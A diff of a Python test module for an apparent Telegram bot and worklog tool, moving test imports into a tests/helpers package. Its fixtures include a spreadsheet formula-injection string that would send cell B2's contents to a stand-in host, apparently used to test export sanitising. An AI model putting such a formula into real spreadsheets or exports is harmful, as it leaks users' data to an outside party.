@@ -25,9 +25,9 @@ from handlers.router import Router
 from storage import Database, worklog
 from storage.org_import import resolve_person
 from testing.fakes.telegram_api import FakeTelegramAPI
-from tests.conftest import AN, THANH
-from tests.test_cli import OPERATOR_SETTINGS, bietphai
-from tests.test_telegram_e2e import PollingBot, linked_official
+from tests.helpers.cli import OPERATOR_SETTINGS, bietphai
+from tests.helpers.sample import AN, THANH
+from tests.helpers.telegram import PollingBot, linked_official
 
 FORMULA = '=HYPERLINK("http://x?d="&B2,"a")'
 WORD_PASTE = "Họp dân thôn 3\x0bChiều: rà soát hồ sơ"
